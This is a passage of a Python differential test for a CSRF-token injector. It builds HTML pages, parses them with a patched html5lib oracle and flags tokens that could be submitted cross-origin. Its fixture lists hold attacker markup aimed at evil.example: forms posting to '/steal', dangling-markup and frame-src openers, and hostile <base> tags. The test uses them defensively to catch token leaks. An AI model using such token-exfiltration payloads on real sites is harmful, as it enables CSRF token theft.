#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Differential test of the streaming injector against html5lib.

Generates pages that mix same-origin and cross-origin forms, foreign
content (svg, math, integration points, breakout tags, CDATA), templates,
tables, select, comments, raw-text elements, noscript and <base>, and
after every fourth an extra page (make_extra_page, an rng of its own):
template contents "in column group" (a <col> first) or a frameset, with
the raw-text tags those modes ignore; runs the
injector over each (whole and split at random points, through
inject_driver, which also checks that both agree and that the output
without the insertions is the page), builds the tree of the output with
html5lib (scripting on and off), and fails on any injected field whose
form owner submits to another origin.

The oracle. html5lib builds the tree but does not associate form owners.
Per the HTML spec, an input inserted by the parser is owned by the form
the form element pointer points to at that moment (no form="" attribute,
no template on the stack). html5lib keeps that pointer
(tree.formPointer), so the oracle wraps its element insertion and records
the pointer when an HTML <input> or <button> is inserted. That owner
lasts only until the tree builder moves the element or an ancestor of
it (the adoption agency takes nodes out and puts them elsewhere:
html5lib's removeChild and reparentChildren, which the oracle wraps):
where it lands, the nearest form among its ancestors owns it (browsers
do so even when the owner moved along, which the spec would keep).
An element inserted while the pointer is not set is owned the same way,
by its nearest ancestor form. The oracle judges the owner each field and
each submitter has in the final tree. The owner's action (empty
or absent: the document's URL) is resolved against the document base URL:
the first HTML <base href> of the final tree, resolved against the
document's URL. Foreign-namespace inputs have no owner.

html5lib 1.1 (Debian's) predates <template>: it builds template contents
as ordinary children, and has no "in template" insertion mode. The oracle
brings the spec's template rules in (html5lib compiled without its
asserts, which take what a template allows for the fragment case; its
handlers wrapped): the "in template" mode and the stack of template
insertion modes (the template's first element picks the mode its
contents are read in: a <td> "in row", a <tbody> "in table", others "in
body"; an end tag read there is ignored, so a </td> in a template in a
cell does not close the cell), the mode reset from that stack,
</template> and the end of the file popping to the template, a template
bounding every element scope (the table scope too) and stopping the
clearing of the stack back to a table, body or row context, taking what
is foster-parented after it, and a <form> start tag while a template is
open not setting the form element pointer (a </form> then leaves it
alone; a <form> in a table in a template is inserted and popped, as
Chromium does, where the spec ignores it). An input inserted while a
template is open is inert (no owner), and a <base> inside a template is
not the document's. Checked against Chromium 156's DOM (DOMParser,
scripting off: the trees, the owners, their methods, actions and
submitters, the base) on 12,000 pages (5,000 of templates in cells,
rows, captions, tables and select, 7,000 from make_page): the verdicts
agree on every page (the oracle before this mode: 73 leaks Chromium does
not have); the trees still differ where html5lib 1.1 predates other
changes (Chromium's select that keeps any content, </p> leaving foreign
content) and inside templates, where nothing is owned.
That check runs on every ctest run now, in Firefox too: dom_oracle.mjs
(html5lib.dom.chromium, html5lib.dom.firefox) judges the injector's
output of this generator's pages (page_stream) in the browsers' DOM.
A <base> to another origin that comes after a form got its token is
accepted only when the injector reported it (CSRF_INJECT_LATE_BASE).

Placement. The injector's promise is that a field is its form's because
it is the form's child: every field must be, in the final tree, a
descendant of the form the pointer gave it when it was inserted. A
<form> start tag that a table holds outside a cell is inserted and
popped at once (the field after it is a sibling owned through the
pointer, which the adoption agency or foster parenting later takes
away): such a form must get no token. The first pages (LEGIT) are
ordinary table layouts that must keep theirs (a form in a cell, in a
caption, around a table, in a nested table's cell).

The token itself must be nowhere else in the tree: not in another
element's attribute (markup an attacker left open around a form, as in
<img src='//evil.example/?, would carry it away), text, raw text or a
comment; only as a field's value and the meta pair's content.

Submitters. A form whose fields can leave by GET or to another origin
must not hold the field: its method must be POST, and every submit
button it owns (as above, or by a form="" attribute naming its id, the
first element in tree order with that id) must send it by POST (or
dialog) to this origin: a formmethod other than post and dialog is GET,
a formaction is resolved against the document's base URL. A form=""
button that comes after the field cannot be undone by a stream: it is
accepted only when the injector reported it (CSRF_INJECT_LATE_OWNER), and
so is one without a pointer owner that comes after it
(CSRF_INJECT_LATE_BUTTON).

Usage: inject_diff.py DRIVER [--pages N] [--seed S] [--report N]
Exits 0 when every page passed; prints the first failing page otherwise.
"""
import argparse
import random
import subprocess
import sys
import urllib.parse

from html5lib.treebuilders.base import Marker
from html5lib import treebuilders

SELF = "https://self.example"
DOC_URL = SELF + "/dir/page.html"
FIELD = "csrf_diff_field"
TOKEN = "diffTOKEN0123456789"

SAME_FORMS = [
    '<form method=post action="/real">',
    '<form method="POST">',
    '<form method=post action="">',
    '<form method=post action="vote.php?a=1&amp;b=2">',
    '<form method=post action="index.php&#x3F;route&#x3D;&#x2F;preferences">',
    '<form method=post action="https://self.example/x">',
    '<form method=post action="&#x2F;x">',
    '<form method=p&#x6f;st action=rel>',
    '<form action="/search">',
    '<form id=f method=post action=/f>',
    '<form id=g method=post>',
    '<form id=f action=/f>',
]
SUBMITTERS = [
    "<button formmethod=post>", "<input type=submit formmethod=post>", "<button formmethod=get>",
    "<input type=submit formmethod=GET>", "<input type=image formmethod=x>", "<button formmethod>",
    "<button formmethod=dialog>", "<button type=button formmethod=get>", "<button>", "<input type=submit>",
    '<button formaction="https://evil.example/">', '<button formaction="//evil.example/" formmethod=post>',
    '<button formaction="/t">', "<button formaction=rel>", '<button formaction="https://self.example/t">',
    "<button form=f formmethod=get>", '<button form=f formaction="https://evil.example/">',
    "<button form=g formmethod=get>", "<input type=submit form=f formmethod=post>", "<button form=f>",
    "<button form=x formmethod=get>", '<input type=image form=g formaction="//evil.example/">',
]
EVIL_FORMS = [
    '<form method=post action="https://evil.example/">',
    '<form action=//evil.example/ method=post>',
    '<form method=post action="&#x2F;&#x2F;evil.example">',
    '<form method=post action="https&#x3A;//evil.example/">',
    '<form method=post action="&sol;&sol;evil.example/">',
    '<form action="https://evil.example/">',
    '<form method=post action="javascript:x">',
]
BASES = [
    '<base href="https://evil.example/">',
    '<base href="//evil.example/">',
    '<base href="/app/">',
    '<base href="&#x2F;&#x2F;evil.example/">',
    '<base target=_top>',
]
MARKUP = [
    "</form>", "<svg>", "</svg>", "<math>", "</math>", "<style>", "</style>", "<script>", "</script>",
    "<foreignObject>", "</foreignObject>", "<desc>", "<title>", "</title>", "<mi>", "</mi>", "<mtext>",
    '<annotation-xml encoding="text/html">', "<annotation-xml>", "</annotation-xml>", "<g>", "</g>",
    "<path/>", "<svg/>", "<p>", "<div>", "</div>", "<br>", "<img src=x>", '<font color=red>', "<font>", "</font>",
    "<![CDATA[", "]]>", "<table>", "<tr>", "<td>", "</td>", "</tr>", "</table>", "<caption>", "<select>",
    "<option>", "</select>", "<!--", "-->", "<!-- c -->", "<!---->", "<textarea>", "</textarea>", "<xmp>",
    "</xmp>", "<noscript>", "</noscript>", "<iframe>", "</iframe>", "<noembed>", "</noembed>", "<head>",
    "<body>", "<button formmethod=post>", "<input type=submit formmethod=post>", "<input name=q>",
    "<b>", "</b>", "<span>", "</span>", "<li>", "<h1>", "<pre>", "<a href=/x>", "</a>", "<object>",
    "</object>", "<label>", "<mglyph>", "<![CDATa[x>", "<![CDATA[>", "<!doctype html>", "x", " ", ">", "<", "'", '"',
    '<div title="', '">', "<p title='", "'>", "</p>", "</br>",
    "<noscript></form></noscript>", "<noscript><button formmethod=get></noscript>",
    "<noscript><input type=submit value=Go></noscript>",
    '<noscript><button formaction="https://evil.example/">x</button></noscript>',
    # the outside review's pages: a form closed early with elements left open
    '<div class="comment">Nice post! <form action="https://evil.example/steal" method="post" id="evil">'
    '<div></form><a><section><button><div></div>',
    '<div><form method=post action="https://evil.example/"></div></form>',
    "<a>", "</a>", "<section>", "<button>", "</button>", "<nobr>", "<i>", "</i>",
    # table modes: where a <form> start tag is inserted and popped at once
    "<tbody>", "</tbody>", "<thead>", "<tfoot>", "<th>", "</th>", "</caption>", "<colgroup>", "<col>",
    "</colgroup>", "<table><tr><td>", "</td></tr></table>",
    '<p>comment: <form method=get action=https://evil.example/steal><div></form><table><a><div></p>',
]
RARE = ["<plaintext>", "<frameset>", "\x1b$B"]
# The outside review's pages, judged first: attacker markup before the
# site's form, and what comes after it (an end tag that runs the adoption
# agency moves the real form's content).
REAL = "<form method=post action=/send><input name=msg><button>Send</button></form>"
# legitimate table layouts keep their token: a form inside a cell, a form
# around a whole table
LEGIT = ["<table><tr><td>" + REAL + "</td></tr></table>",
         "<table><caption>" + REAL + "</caption><tr><td>x</table>",
         REAL.replace("<input", "<table><tr><td><input").replace("</form>", "</td></tr></table></form>"),
         "<table><tr><td><table><tr><th>" + REAL + "</th></tr></table></td></tr></table>"]
FIXED = LEGIT + [pre + REAL + post for pre in (
    # the outside review of the held form (issue 24): a <form> start tag in
    # the "in table" mode is inserted and popped at once, its fields are
    # siblings owned through the pointer; the adoption agency run by a
    # later <a> moves them into the attacker's GET form
    '<p>comment: <form method=get action=https://evil.example/steal><div></form><table><a><div></p>',
    '<p>comment: <form method=get action=https://evil.example/steal><div></form><table><b><div></p>',
    '<form method=get action=https://evil.example/steal><div></form><table><tr><nobr><div>',
    '<form method=get action=https://evil.example/steal><div></form><table><td></td><a><div>',
    '<div class="comment">Nice post! <form action="https://evil.example/steal" method="post" id="evil">'
    '<div></form><a><section><button><div></div>',
    '<div><form action="https://evil.example/steal" method="post" id="evil"></div></form>',
    '<form action="https://evil.example/steal" method="post"><b><div></form><i>',
) for post in ("", "</a>", "</div>", "<a href=/next>next</a>", "</b></i><p>footer")]

# Pages the oracle found leaking, reduced, judged after FIXED on every run
# (cut with an rng of their own, so that a seed's random pages stay the
# same pages at the same numbers).
REGRESSIONS = [
    # seed 101, page 20985: a form without an action closed with a <div>
    # open in it, a relative formaction after it (the div's, so the
    # form's), then a <base> elsewhere: CSRF_INJECT_LATE_BASE
    '<form method="POST"><div></form><button formaction="/t">x</button><base href="//evil.example/">',
    '<form method=post><table><tr><td></form><input type=image formaction=t><base href="//evil.example/">',
    # the same through form="", after and before the form it names
    '<form id=f method=post></form><button form=f formaction="/t">x</button><base href="//evil.example/">',
    '<button form=f formaction="/t">x</button><form id=f method=post></form><base href="//evil.example/">',
    '<button form=f formaction="/t">x</button><base href="//evil.example/"><form id=f method=post></form>',
    # The oracle's false leaks (html5lib without the "in template" mode:
    # an end tag in a template in a cell or caption closed the cell, or
    # a table's start tag did, so the form after the template was one
    # the table holds outside a cell; Chromium keeps the form in the
    # cell, its field in it). Each fails with the oracle before it.
    "<table><td><template></td></template>" + REAL,
    "<table><tr><th><template></tr></template>" + REAL,
    "<table><td><template></tbody></template>" + REAL,
    "<table><caption><template></caption></template>" + REAL,
    "<table><td><template><tbody></template>" + REAL,
    "<table><th><template><tr></template>" + REAL,
    "<table><caption><template><colgroup></template>" + REAL,
    "<table><td><template><col></template>" + REAL,
    "<table><td><template><template></td></template></template>" + REAL,
    # a form in the template after a </table> there: html5lib set the
    # form element pointer to it, and the site's form was ignored
    "<table><th><template></table><form action=//evil.example/></template>" + REAL,
    # the adoption agency foster-parenting into a template (a table's
    # row in it): html5lib inserted before no node and the oracle crashed
    # (seed 101, page 18617, the first seed to put templates in pages)
    "<table><td><template><tr><a><p></a></template>" + REAL,
    # an svg <template> stopped the clearing of the stack back to a table
    # body context, and </table> was read again for ever (seed 103, page
    # 6796)
    "<table><tbody><svg><template></table>" + REAL,
    # "in frameset" drops a <title> or <textarea> start tag: the form read
    # after it was inside a <frame src> to another origin, with the token
    # (review of the template fix, 2026-12; the generator made no
    # frameset then: make_extra_page makes them); the injector stops at a
    # <frameset> now
    "<frameset><title><frame src='//evil.example/?</title>" + REAL + "'>",
    # (in body too: a <div> and whitespace leave the frameset-ok flag set)
    "<head><title>t</title></head><div class=a>\n<frameset><textarea><frame src='//evil.example/?</textarea>" + REAL +
    "'>",
    # Template contents "in column group" (a <col> first), which the
    # injector follows now instead of stopping: a <title> there is ignored,
    # and the button after </template> is read (an injector that took the
    # <title> for raw text gives f the token: flagged); after a <title>
    # Chromium reads the <col> "in body" (dropped), and the <title> after
    # it is raw text holding the form (an injector that took the contents
    # for "in column group" there: the token in the title's text)
    "<template><col><title></template><button form=f formaction=//evil.example/></title></template>"
    "<form id=f method=post action=/f><input name=a></form>" + REAL,
    "<template><title>t</title><col><title></template>" + REAL,
    # the tree depth cap (docs/architecture.md): past S + 2T + 3 = 480 a
    # form without an id gets the injector's and its field form="" naming
    # it (html5lib has no cap: the owner model's form="" rule is what these
    # exercise); one with an id of its own after a ghost has its field
    # name that id, or gets no token where an earlier form had it
    "<form method=get action=//evil.example/steal><div></form>" + "<i>" * 510 + REAL,
    "<form method=get action=//evil.example/steal><div></form>" + "<i>" * 510 + REAL.replace("<form", "<form id=s"),
    "<form id=s method=get action=/search><div></form>" + "<i>" * 510 + REAL.replace("<form", "<form id=s"),
    "<table></table>" * 160 + REAL + REAL.replace("post", "get") + REAL,
    "<i>" * 476 + "<form/method=post>x</form><form method=post><template>" + REAL + "</template></form>",
]

# Wrong placements by hand, judged without the injector: the oracle must
# find each (a check that it still sees leaks around templates).
FIELD_TAG = '<input type="hidden" name="%s" value="%s">' % (FIELD, TOKEN)
MUST_FLAG = [
    # a GET form to another origin after the template in the cell
    "<table><td><template></td></template><form method=get action=//evil.example/>" + FIELD_TAG + "</form>",
    # a form the row holds outside a cell (inserted and popped at once)
    "<table><td><template></td></template></td><form method=post action=/x>" + FIELD_TAG + "</form>",
    # the field in a form left open before the table
    '<form action="https://evil.example/" method=post><table><td><template><tr></template>' + FIELD_TAG,
    # a form in a template sets no pointer: the field is the open form's
    '<form method=post action="https://evil.example/"><table><td><template></td><form method=post action=/x>'
    "</template>" + FIELD_TAG,
    # issue 24: the adoption agency hands the field to the attacker's form
    "<form method=get action=https://evil.example/steal><div></form><table><form method=post action=/x>" +
    FIELD_TAG + "<a><div>",
    # a field pinned by form="" to an id an earlier element of the
    # attacker's has: the first element with the id owns it
    "<form id=csrf-x method=get action=//evil.example/></form><form id=csrf-x method=post action=/x>" +
    FIELD_TAG.replace(">", ' form="csrf-x">') + "</form>",
    "<div id=csrf-x></div><form id=csrf-x method=post action=/x>" + FIELD_TAG.replace(">", ' form="csrf-x">') +
    "</form>",
]


# Templates: where html5lib 1.1, which has no "in template" mode, and a
# browser build different trees (the oracle's model of it, below), a
# template in a cell, caption, row, table or select, with the table's
# tags inside it.
TEMPLATE_CONTEXTS = ["<table><td>", "<table><tr><th>", "<table><caption>", "<table>", "<table><tr>",
                     "<table><tbody>", "<table><colgroup>", "<select>", "<table><td><select>"]
TEMPLATE_INNER = ["</td>", "</th>", "</tr>", "</tbody>", "</thead>", "</caption>", "</colgroup>", "</table>",
                  "</select>", "<td>", "<th>", "<tr>", "<tbody>", "<caption>", "<colgroup>", "<col>", "<option>",
                  "<template>", "</template>", "</body>", "</html>"]


def fragment(rng, in_template):
    r = rng.random()
    if r < 0.18:
        return rng.choice(SAME_FORMS)
    if r < 0.28:
        return rng.choice(EVIL_FORMS)
    if r < 0.32:
        return rng.choice(BASES)
    if r < 0.40:
        return rng.choice(SUBMITTERS)
    if r < 0.46 and not in_template:
        inner = "".join(rng.choice(TEMPLATE_INNER) if rng.random() < 0.4 else fragment(rng, True)
                        for _ in range(rng.randint(0, 6)))
        context = rng.choice(TEMPLATE_CONTEXTS) if rng.random() < 0.5 else ""
        return context + "<template>" + inner + ("</template>" if rng.random() < 0.9 else "")
    if r < 0.462:
        return rng.choice(RARE)
    return rng.choice(MARKUP)


def make_page(rng):
    parts = []
    if rng.random() < 0.5:
        parts.append("<!doctype html><html><head><title>t</title></head><body>")
    for _ in range(rng.randint(2, 30)):
        parts.append(fragment(rng, False))
    # most pages end with a real form, so that tokens go in
    parts.append(rng.choice(SAME_FORMS) + "<input name=a><button>Go</button></form>")
    return "".join(parts)


# Pages make_page makes rarely or never, where what a misreading tokenizer
# would take for raw text follows markup the tree builder ignores:
# template contents whose first start tag is <col> ("in column group"
# with the template current: every start tag but col and template
# ignored, so a <title>, <script>, <plaintext> starts no raw text and an
# <svg> no foreign content; HTML 13.2.6.4.12), or whose first start tag is
# another (a <col> after it ignored), nested; and framesets ("in
# frameset": every start tag but frameset, frame and noframes ignored).
# Made by make_extra_page with an rng of their own (main: one after every
# fourth random page), so that a seed's random pages stay the same.
COLGROUP_CONTEXTS = ["<table>", "<table><colgroup>", "<table><tr><td>", "<div>", "<table><caption>",
                     "<table><colgroup span=2>"]
TEMPLATE_FIRST = ["<col>", "<col span=2>", "<COL/>", "<link rel=x>", "<meta charset=utf-8>", "<script></script>",
                  "<style>p{}</style>", "<template></template>", "<template><col></template>", "<title>t</title>",
                  "<base href=/b/>", "<basefont>", "<bgsound>", "<noframes>n</noframes>", "<span>",
                  "<div class=x>", "<button>", "<input name=i>", "<form>", "<tr>", "<td>", "<colgroup>", "<p>", "x",
                  "<!-- c -->", "</col>", "</template>"]
COLGROUP_IGNORED = ["<title>", "<script>", "<style>", "<textarea>", "<xmp>", "<iframe>", "<noembed>", "<noframes>",
                    "<noscript>", "<plaintext>", "<svg>", "<math>", "<select>", "<![CDATA[", "<frameset>", "<head>",
                    "<body>", "<html>", "<base href=//evil.example/>", "<a href=/x>", "<tr>", "<td>", "<table>",
                    "<col>", "</colgroup>", "</table>", "</col>", "<caption>", "<option>", "x", "<!--", "-->",
                    "<svg><![CDATA[", "<form method=post action=/x><input name=a>", "<input type=submit>"]
RAW_CLOSERS = ["</title>", "</script>", "</style>", "</textarea>", "</xmp>", "</iframe>", "</noembed>", "</noframes>",
               "</noscript>", "]]>", "</svg>", "</select>", "</template>", "</template>"]
FRAMESET_BEFORE = ["<!doctype html>", "<html>", "<head><title>t</title></head>", "\n", " ", "<div>",
                   "<div class=a>\n", "<!-- c -->", "<base href=/app/>", "<p>", "x", "<span>",
                   "<input type=hidden name=h>", "<template></template>", REAL, "<form method=post action=/x>",
                   "</form>", "<body>", "</head>"]
FRAMESETS = ["<frameset>", "<frameset rows=*>", "<FRAMESET cols='50%,50%'>", "<frameset onload=x>"]
FRAMESET_INNER = ["<frame src=/f>", "<frame src='//evil.example/?", "'>", "<noframes>", "</noframes>",
                  "<frameset>", "</frameset>", "<title>", "</title>", "<textarea>", "</textarea>", "<style>",
                  "</style>", "<script>", "</script>", "<xmp>", "</xmp>", "<iframe>", "<noembed>", "<plaintext>",
                  "<noscript>", "</noscript>", "<template>", "<template><col>", "</template>", "<col>", "<svg>",
                  "<body>", "</html>", "</body>", "<frame src=\"/f?", "\">"]


def colgroup_template(rng, depth=0):
    """A template whose contents may be "in column group", with what that
    mode ignores, forms, submitters and raw-text end tags inside."""
    parts = [rng.choice(COLGROUP_CONTEXTS) if depth == 0 and rng.random() < 0.5 else "", "<template>"]
    for _ in range(rng.choice((0, 0, 0, 1, 1, 2))):
        parts.append(rng.choice(TEMPLATE_FIRST))
    if rng.random() < 0.75:
        parts.append(rng.choice(("<col>", "<col>", "<COL span=2>", "<col/>")))
    for _ in range(rng.randint(0, 7)):
        r = rng.random()
        if r < 0.4:
            parts.append(rng.choice(COLGROUP_IGNORED))
        elif r < 0.6:
            parts.append(fragment(rng, True))
        elif r < 0.7 and depth < 2:
            parts.append(colgroup_template(rng, depth + 1))
        elif r < 0.9:
            parts.append(rng.choice(RAW_CLOSERS))
        else:
            parts.append(rng.choice(("<col>", "<template>", "</colgroup>")))
    if rng.random() < 0.9:
        parts.append("</template>")
    if depth == 0 and rng.random() < 0.5:
        parts.append(rng.choice(("</colgroup>", "</table>", "</td></tr></table>", "<tr><td>")))
    return "".join(parts)


def frameset_part(rng):
    """A frameset the browser may take (after whitespace, a <div>, a
    hidden input) or drop (after text, most elements), with the start
    tags "in frameset" ignores and frames whose src a misread form lands in."""
    parts = [rng.choice(FRAMESET_BEFORE) for _ in range(rng.randint(0, 3))]
    parts.append(rng.choice(FRAMESETS))
    for _ in range(rng.randint(1, 8)):
        r = rng.random()
        if r < 0.6:
            parts.append(rng.choice(FRAMESET_INNER))
        elif r < 0.7:
            parts.append(REAL)
        else:
            parts.append(fragment(rng, False))
    return "".join(parts)


def make_extra_page(rng):
    """A page of template contents "in column group" (and beside it) or of
    a frameset, among make_page's fragments, ending with a real form."""
    parts = []
    frameset = rng.random() < 0.3
    if not frameset and rng.random() < 0.4:
        parts.append("<!doctype html><html><head><title>t</title></head><body>")
    for _ in range(rng.randint(0, 4)):
        parts.append(fragment(rng, False))
    if frameset:
        parts.append(frameset_part(rng))
    else:
        for _ in range(rng.randint(1, 3)):
            parts.append(colgroup_template(rng))
            for _ in range(rng.randint(0, 3)):
                r = rng.random()
                parts.append(rng.choice(RAW_CLOSERS) if r < 0.3 else
                             rng.choice(SUBMITTERS) if r < 0.6 else fragment(rng, False))
    for _ in range(rng.randint(0, 6)):
        parts.append(rng.choice(SUBMITTERS) if rng.random() < 0.3 else fragment(rng, False))
    parts.append(rng.choice(SAME_FORMS) + "<input name=a><button>Go</button></form>")
    return "".join(parts)


def template_open(tree):
    return any(e.name == "template" and e.namespace == tree.defaultNamespace for e in tree.openElements)


HTML_NS = "http://www.w3.org/1999/xhtml"


def load_parser():
    """html5lib's tree builder, compiled without its asserts: it asserts
    that what the spec allows in template contents ("the fragment case or
    a template": a </tr> with no tr in table scope, a <body> when body is
    not second on the stack, a table mode's end of file with html as the
    current node) happens only when parsing a fragment."""
    import importlib.util
    from html5lib import html5parser as orig
    spec = importlib.util.spec_from_file_location("html5lib.csrf_html5parser", orig.__file__)
    mod = importlib.util.module_from_spec(spec)
    with open(orig.__file__, encoding="utf-8") as f:
        code = compile(f.read(), orig.__file__, "exec", optimize=1)
    exec(code, mod.__dict__)
    return mod


html5parser = load_parser()


def patch_scopes():
    """A template bounds every element scope, the table scope too
    (html5lib's lists lack it), and is a special element: "any other end
    tag" (a </font> with no <font> after the template's marker) stops at
    it instead of popping it."""
    from html5lib.treebuilders import base
    for variant, (elements, invert) in list(base.listElementsMap.items()):
        if not invert and (HTML_NS, "template") not in elements:
            base.listElementsMap[variant] = (frozenset(elements | {(HTML_NS, "template")}), invert)
    if (HTML_NS, "template") not in html5parser.specialElements:
        html5parser.specialElements = frozenset(html5parser.specialElements | {(HTML_NS, "template")})


# The spec's "in template" insertion mode (HTML 13.2.6.4.18) and the
# stack of template insertion modes, which html5lib 1.1 lacks: the
# template's first start tag picks the mode its contents are read in (a
# <td> the "in row" one, a <tr> "in table body", ...), an end tag read
# in it is ignored (a </td> in a template in a cell does not close the
# cell), and </template> or the end of the file pops to the template and
# resets the mode from the stack. The stack lives on the parser
# (parser.csrf_template_modes, names of html5lib's phases).
# The spec's list of start tags "in template" reads by the "in head"
# rules is longer: Chromium (156) reads a <base>, <basefont>, <bgsound>,
# <noframes> or <title> there as "any other start tag" (the "in body"
# mode for the rest of the template, so a <col> after it is dropped);
# the oracle follows the browser. Either way it is template contents.
# (Firefox 153 reads them by the "in head" rules, as the spec: a <col>
# after them puts the contents "in column group". The injector stops at
# such a <col>.)
TEMPLATE_HEAD = ("link", "meta", "script", "style", "template")
TEMPLATE_SWITCH = {"caption": "inTable", "colgroup": "inTable", "tbody": "inTable", "tfoot": "inTable",
                   "thead": "inTable", "col": "inColumnGroup", "tr": "inTableBody", "td": "inRow",
                   "th": "inRow"}


class InTemplate:
    """The "in template" insertion mode, as an html5lib phase."""

    def __init__(self, parser):
        self.parser = parser
        self.tree = parser.tree

    def body(self):
        return self.parser.phases["inBody"]

    def processCharacters(self, token):
        return self.body().processCharacters(token)

    def processSpaceCharacters(self, token):
        return self.body().processSpaceCharacters(token)

    def processComment(self, token):
        return self.body().processComment(token)

    def processDoctype(self, token):
        return self.body().processDoctype(token)

    def processStartTag(self, token):
        if token["name"] in TEMPLATE_HEAD:
            return self.parser.phases["inHead"].processStartTag(token)
        mode = TEMPLATE_SWITCH.get(token["name"], "inBody")
        modes = self.parser.csrf_template_modes
        modes[-1] = mode
        self.parser.phase = self.parser.phases[mode]
        return token

    def processEndTag(self, token):
        if token["name"] == "template":
            return end_template(self, token)
        return None  # a parse error, ignored

    def processEOF(self):
        return template_eof(self.parser)


def start_template(self, token):
    """The "in head" rules for a template start tag."""
    parser, tree = self.parser, self.tree
    tree.insertElement(token)
    tree.activeFormattingElements.append(Marker)
    parser.framesetOK = False
    parser.csrf_template_modes.append("inTemplate")
    parser.phase = parser.phases["inTemplate"]


def pop_template(parser):
    """Pops the stack to the innermost template and the template's mode."""
    tree = parser.tree
    for k in range(len(tree.openElements) - 1, -1, -1):
        e = tree.openElements[k]
        if e.name == "template" and e.namespace == tree.defaultNamespace:
            del tree.openElements[k:]
            break
    if any(e is Marker for e in tree.activeFormattingElements):
        tree.clearActiveFormattingElements()  # up to the last marker
    if parser.csrf_template_modes:
        parser.csrf_template_modes.pop()
    reset_insertion_mode(parser)


def end_template(self, token):
    """</template>: pops to the innermost open template, whatever is
    inside; ignored when none is open."""
    if template_open(self.tree):
        pop_template(self.parser)
    return None


def template_eof(parser):
    """The end of the file with a template open: pop it, read the end again."""
    if not template_open(parser.tree):
        return None
    pop_template(parser)
    return True


def reset_insertion_mode(parser):
    """The spec's "reset the insertion mode appropriately", template and
    select in a table included (html5lib's asserts on a template)."""
    tree = parser.tree
    stack = tree.openElements
    modes = {"td": "inCell", "th": "inCell", "tr": "inRow", "tbody": "inTableBody", "thead": "inTableBody",
             "tfoot": "inTableBody", "caption": "inCaption", "colgroup": "inColumnGroup", "table": "inTable",
             "body": "inBody", "frameset": "inFrameset"}
    for k in range(len(stack) - 1, -1, -1):
        node = stack[k]
        last = k == 0
        if node.namespace != tree.defaultNamespace:
            continue
        name = node.name
        if name == "select":
            mode = "inSelect"
            for anc in stack[k - 1:0:-1]:
                if anc.name == "template":
                    break
                if anc.name == "table":
                    mode = "inSelectInTable"
                    break
            parser.phase = parser.phases[mode]
            return
        if name in ("td", "th") and last:
            continue
        if name == "template":
            modes_stack = parser.csrf_template_modes
            parser.phase = parser.phases[modes_stack[-1] if modes_stack else "inBody"]
            return
        if name == "head" and not last:
            parser.phase = parser.phases["inHead"]
            return
        if name == "html":
            parser.phase = parser.phases["beforeHead" if tree.headPointer is None else "afterHead"]
            return
        if name in modes:
            parser.phase = parser.phases[modes[name]]
            return
    parser.phase = parser.phases["inBody"]


def clear_to(names):
    """The spec's "clear the stack back to a ... context": a template stops it too."""
    def clear(self):
        # HTML elements only (an svg <template> does not stop it)
        stack = self.tree.openElements
        while stack[-1].name not in names or stack[-1].namespace != self.tree.defaultNamespace:
            stack.pop()
    return clear


def eof_wrap(orig):
    """The spec sends the end of the file in these modes to "in body",
    which sends it to "in template" while a template mode is stacked."""
    def eof(self):
        if self.parser.csrf_template_modes:
            return template_eof(self.parser)
        return orig(self)
    return eof


def other_in_table(orig):
    """"Anything else" in a table: the "in body" rules with foster
    parenting, and what they read again (a <button> with a button in
    scope closes it and is read again) read again here (html5lib drops it)."""
    def other(self, token):
        self.tree.insertFromTable = True
        try:
            return orig(self, token)
        finally:
            self.tree.insertFromTable = False
    return other


def table_in_table(self, token):
    """<table> in a table: closes the open one and is read again, ignored
    when no table is in table scope (in a template: html5lib reads it
    again whatever, unless parsing a fragment, and so for ever)."""
    if not self.tree.elementInScope("table", variant="table"):
        return None
    self.parser.phase.processEndTag(html5parser.impliedTagToken("table"))
    return token


def patch_templates(parser):
    """Makes html5lib's tree builder follow the spec's template rules."""
    patch_scopes()
    parser.csrf_template_modes = []
    parser.phases["inTemplate"] = InTemplate(parser)
    cls = type(parser)
    if not getattr(cls, "_csrf_patched", False):
        cls.resetInsertionMode = reset_insertion_mode
        cls._csrf_patched = True
    for phase, method, names in (("inTable", "clearStackToTableContext", ("table", "template", "html")),
                                 ("inTableBody", "clearStackToTableBodyContext",
                                  ("tbody", "tfoot", "thead", "template", "html")),
                                 ("inRow", "clearStackToTableRowContext", ("tr", "template", "html"))):
        cls = type(parser.phases[phase])
        if not cls.__dict__.get("_csrf_clear_" + method):
            setattr(cls, method, clear_to(names))
            setattr(cls, "_csrf_clear_" + method, True)
    for phase in parser.phases.values():
        cls = type(phase)
        table = cls.__dict__.get("endTagHandler")
        if table is not None and not cls.__dict__.get("_csrf_end_template"):
            dict.__setitem__(table, "template", end_template)
            cls._csrf_end_template = True
    # a template start tag: the "in head" rules, from the modes that send it there
    for phase in ("inHead", "inBody", "inTable", "inSelect", "inColumnGroup", "afterHead"):
        cls = type(parser.phases[phase])
        if cls.__dict__.get("_csrf_start_template"):
            continue
        table = cls.__dict__["startTagHandler"]
        if phase == "afterHead":  # pushes the head, runs "in head", removes the head
            dict.__setitem__(table, "template", dict.__getitem__(table, "base"))
        elif phase == "inHead":
            dict.__setitem__(table, "template", start_template)
        else:
            dict.__setitem__(table, "template", lambda self, token: self.parser.phases["inHead"].processStartTag(token))
        cls._csrf_start_template = True
    for phase in ("inBody", "inTable", "inCaption", "inColumnGroup", "inTableBody", "inRow", "inCell", "inSelect",
                  "inSelectInTable"):
        cls = type(parser.phases[phase])
        if not cls.__dict__.get("_csrf_eof"):
            cls.processEOF = eof_wrap(cls.processEOF)
            cls._csrf_eof = True
    cls = type(parser.phases["inColumnGroup"])
    if not cls.__dict__.get("_csrf_colgroup"):
        # "anything else" pops the current node only when it is a colgroup
        # (a template's <col> leaves the template current)
        cls.ignoreEndTagColgroup = lambda self: self.tree.openElements[-1].name != "colgroup"
        cls._csrf_colgroup = True
    cls = type(parser.phases["inTable"])
    if not cls.__dict__.get("_csrf_table"):
        table = cls.__dict__["startTagHandler"]
        dict.__setitem__(table, "table", table_in_table)
        cls.startTagOther = other_in_table(lambda self, token: self.parser.phases["inBody"].processStartTag(token))
        table.default = cls.startTagOther
        cls.endTagOther = other_in_table(lambda self, token: self.parser.phases["inBody"].processEndTag(token))
        cls.__dict__["endTagHandler"].default = cls.endTagOther
        cls._csrf_table = True

    def start_wrap(orig):
        def start(self, token):
            if not template_open(self.tree):
                return orig(self, token)
            saved = self.tree.formPointer
            self.tree.formPointer = None
            try:
                return orig(self, token)
            finally:
                self.tree.formPointer = saved
        return start

    def end_wrap(orig):
        def end(self, token):
            if not template_open(self.tree):
                return orig(self, token)
            saved = self.tree.formPointer
